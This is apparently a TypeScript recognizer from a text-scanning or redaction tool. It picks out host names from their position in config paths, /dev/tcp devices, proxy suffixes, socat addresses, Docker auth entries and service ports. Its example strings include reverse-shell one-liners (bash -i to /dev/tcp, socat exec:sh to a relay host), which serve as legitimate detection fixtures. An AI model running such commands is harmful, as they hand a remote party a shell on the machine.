import { gateOf } from "../gates.ts";
import { isHostLike, isHostName } from "../host-shape.ts";
import type { Recognizer, Span } from "../recognizer.ts";
import { spansOf } from "../recognizer.ts";
import type { TextScan } from "../text-scan.ts";
import { isCommonWord } from "../well-known.ts";

/** Folders whose files are called after the hosts they are for: sites of web servers, certificates, zones, tunnels. */
const folders = [
  "conf.d/",
  "sites-enabled/",
  "sites-available/",
  "vhosts",
  "certs/",
  "private/",
  "ssl/",
  "tls/",
  "pki/",
  "zones/",
  "named/",
  "bind/",
  "acme",
  "letsencrypt/",
  "haproxy/",
  "openvpn/",
  "known_hosts.d/",
  "host_vars/",
  "log/remote/",
  "dehydrated/",
  "caddy/",
];
const endings =
  "conf|crt|cer|pem|key|csr|p12|pfx|p7b|jks|keystore|truststore|der|chain|fullchain|zone|db|hosts|vhost|cfg|ovpn|keytab|yml|yaml|log|inc|crl|pub";
const hostFile = new RegExp(
  String.raw`/(?:ssl-|vhost[-_.]|db\.|zone\.|\d{1,3}-)?((?:[A-Za-z0-9_](?:[\w-]{0,61}[A-Za-z0-9])?\.){2,8}[A-Za-z][A-Za-z0-9-]{1,62})\.(?:${endings})(?:\.(?:bak|old|gz|disabled|orig|new|tmp|swp|\d{1,3})|~)?(?![\w.-])`,
  "dg",
);
const folderGate = gateOf(folders);
const inFolder = new RegExp(`(?:${folders.map((folder) => folder.replaceAll(".", "\\.")).join("|")})[\\w./-]{0,64}$`);
/** bash(1), REDIRECTION. */
const device = /\/dev\/(?:tcp|udp)\/([A-Za-z0-9][\w.-]{0,252})\/\d/dg;
/** `.shop.example` in lists of what goes past a proxy, of cookies and of allowed origins. */
const suffix = /(?<=[=,;:\s"'(])(?:\*?\.)((?:[A-Za-z0-9](?:[\w-]{0,61}[A-Za-z0-9])?\.){1,8}[A-Za-z]{2,24})(?![\w.-])/dg;
/** `https://host:port` is read elsewhere; this is `TCP:host:port` of socat and the like, in any text. */
const socket =
  /(?<![\w-])(?:tcp|udp|sctp|openssl|ssl|socks)(?:4|6|4a|5)?(?:-connect)?:([A-Za-z][\w.-]{1,252}):\d{1,5}(?=[,\s"'\\]|$)/dgi;

/** A registry as the name of its login in Docker's configuration. */
const registryKey =
  /\\{0,7}["'](?:https?:\\{0,7}\/\\{0,7}\/)?([A-Za-z0-9][\w-]{0,62}(?:\.[\w-]{1,63}){1,8})(?::\d{1,5})?(?:\/[\w./-]{0,40})?\\{0,7}["']\s{0,3}:\s{0,3}\{\s{0,3}\\{0,7}["'](?:username|password|auth|email|identitytoken)\\{0,7}["']/dg;
const registryGate = gateOf(["auths"]);
const socketGate = gateOf(["tcp:", "tcp4:", "tcp6:", "udp:", "-connect:", "ssl:", "socks"]);
const deviceGate = gateOf(["/dev/tcp/", "/dev/udp/"]);
const suffixGate = gateOf(["proxy", "domain"]);
/** Ports that only services have: one says that a machine stands in front, `orders-db:5432`. */
const servicePorts: ReadonlySet<string> = new Set(
  `22 25 110 143 389 443 445 465 587 636 873 993 995 1433 1521 2049 2181 2375 2376 2379 3128 3268 3306 3389 4369 5432 5433 5671 5672 5900
  5985 5986 6379 6443 8125 8200 8443 8500 9042 9092 9093 9200 9300 10250 11211 15672 26379 27017 50000`.split(/\s+/),
);
const nameInFront = /(?:^|[\s"'=,(])([A-Za-z][A-Za-z0-9-]{1,62})$/;

/** Hosts whose name stands where only a host's can: files called after one, devices of the shell, suffixes of domains. */
export const hostPlace: Recognizer = {
  name: "host-place",
  find({ text, passes, context }: TextScan) {
    const spans: Span[] = [];
    const typeOf = (value: string) => (isHostLike(value) ? "HOST" : null);
    if (passes(folderGate))
      spans.push(
        ...spansOf(text, hostFile, (value, start) => {
          const isIn = inFolder.test(text.slice(Math.max(0, start - 96), start));
          return isIn && isHostLike(value) ? "HOST" : null;
        }),
      );
    if (passes(deviceGate)) spans.push(...spansOf(text, device, typeOf, true));
    if (passes(suffixGate) || text.includes("*."))
      spans.push(...spansOf(text, suffix, (value) => (isHostName(value, context.domains) ? "HOST" : null)));
    if (passes(socketGate)) spans.push(...spansOf(text, socket, typeOf, true));
    if (passes(registryGate)) spans.push(...spansOf(text, registryKey, typeOf, true));
    spans.push(...services(text));
    return spans;
  },
  examples: {
    found: [
      ["file=/etc/nginx/conf.d/shop-7.prod.quince.private.conf x", "shop-7.prod.quince.private"],
      ["/etc/nginx/sites-enabled/orders.quince.co.uk.conf", "orders.quince.co.uk"],
      ["cat /etc/pki/tls/certs/ldap7.dc.quince.corp.crt", "ldap7.dc.quince.corp"],
      ["/etc/ssl/private/orders.quince.io.key", "orders.quince.io"],
      ["/etc/bind/zones/db.shop.quince.example.zone", "shop.quince.example"],
      ["exec 5<>/dev/tcp/relay.quince.icu/443", "relay.quince.icu"],
      ["bash -i >& /dev/tcp/relay7/4444 0>&1", "relay7"],
      ["NO_PROXY=localhost,127.0.0.1,.git.quince.example x", "git.quince.example"],
      ["domains *.shop.quince.example", "shop.quince.example"],
      ["socat exec:sh openssl-connect:relay.quince.icu:4443,verify=0", "relay.quince.icu"],
      ["socat - TCP4:orders-db:5432", "orders-db"],
      ['{"auths":{"quay.quince.works":{"username":"x"}}}', "quay.quince.works"],
      ['{\\"auths\\":{\\"quay.quince.works:5000\\":{\\"auth\\":\\"x', "quay.quince.works"],
      ["waitfor orders-db:5432 -t 30", "orders-db"],
    ],
    ignored: [
      "/etc/nginx/conf.d/default.conf",
      "/etc/nginx/conf.d/gzip.types.conf",
      "/etc/ssl/certs/ca-certificates.crt",
      "/srv/app/settings.prod.eu.yml",
      "NO_PROXY=localhost,.svc,.local",
      "/dev/tcp/$HOST/80",
      '{"auths":{"ghcr.io":{"auth":"x"}}}',
      "cat ~/.bashrc .profile",
      "tcp:443:80",
      "socat TCP-LISTEN:8443,fork -",
      "docker run -p 8443:443 nginx:1.25",
      "image=ubuntu:2204",
      "at line:443",
      "tcp:localhost:80",
      "/opt/ssl/libssl.so.1.1.conf",
    ],
  },
};

function services(text: string): Span[] {
  const spans: Span[] = [];
  for (let at = text.indexOf(":"); at >= 0; at = text.indexOf(":", at + 1)) {
    // Of times, lists and addresses most have no such port.
    if (!isDigitCode(text.charCodeAt(at + 2)) || isDigitCode(text.charCodeAt(at + 6))) continue;
    let end = at + 1;
    while (end < at + 7 && isDigitCode(text.charCodeAt(end))) end += 1;
    if (end === at + 1 || !servicePorts.has(text.slice(at + 1, end)) || !/^(?:[\s"',;)/\\]|$)/.test(text.charAt(end)))
      continue;
    const name = nameInFront.exec(text.slice(Math.max(0, at - 64), at))?.[1];
    if (name !== undefined && isService(name))
      spans.push({ start: at - name.length, end: at, type: "HOST", byPlace: true });
  }
  return spans;
}

function isDigitCode(code: number): boolean {
  return code >= 48 && code <= 57;
}

function isService(value: string): boolean {
  return isHostLike(value) && !isCommonWord(value) && !/^(?:tcp|udp|sctp|ssl|openssl|socks)|listen$/i.test(value);
}
